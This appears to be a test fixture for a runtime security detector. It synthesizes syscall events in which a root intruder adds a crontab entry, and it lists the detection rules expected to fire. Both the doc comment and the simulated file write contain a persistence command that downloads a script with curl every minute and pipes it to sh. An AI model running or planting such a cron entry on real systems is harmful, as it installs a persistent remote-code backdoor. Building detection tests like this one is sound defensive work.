/**
 * event-generator ScheduleCronJobs: a root intruder on the node adds a job
 * to root's crontab
 * (`(crontab -l; echo "* * * * * curl -s http://127.0.0.1:8000/s | sh") | crontab -`).
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { hostSession } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco-incubating_rules.yaml', rule: 'Schedule Cron Jobs' },
  tiercel: ['Cron Job Scheduled via crontab'],
};

export default function build(s: Scenario): void {
  const { shell } = hostSession(s);
  const list = shell.spawn({ exe: 'crontab', exepath: '/usr/bin/crontab', args: ['-l'] });
  list.exit();
  const install = shell.spawn({ exe: 'crontab', exepath: '/usr/bin/crontab', args: ['-'] });
  const tmp = install.open('/var/spool/cron/crontabs/tmp.Xy12ab', { mode: 'w', create: true, trunc: true, perm: 0o600 });
  install.write(tmp, '* * * * * curl -s http://127.0.0.1:8000/s | sh\n');
  install.close(tmp);
  install.syscall('renameat2', { olddirfd: -100, oldpath: '/var/spool/cron/crontabs/tmp.Xy12ab', newdirfd: -100, newpath: '/var/spool/cron/crontabs/root', flags: 0 });
  install.exit();
}
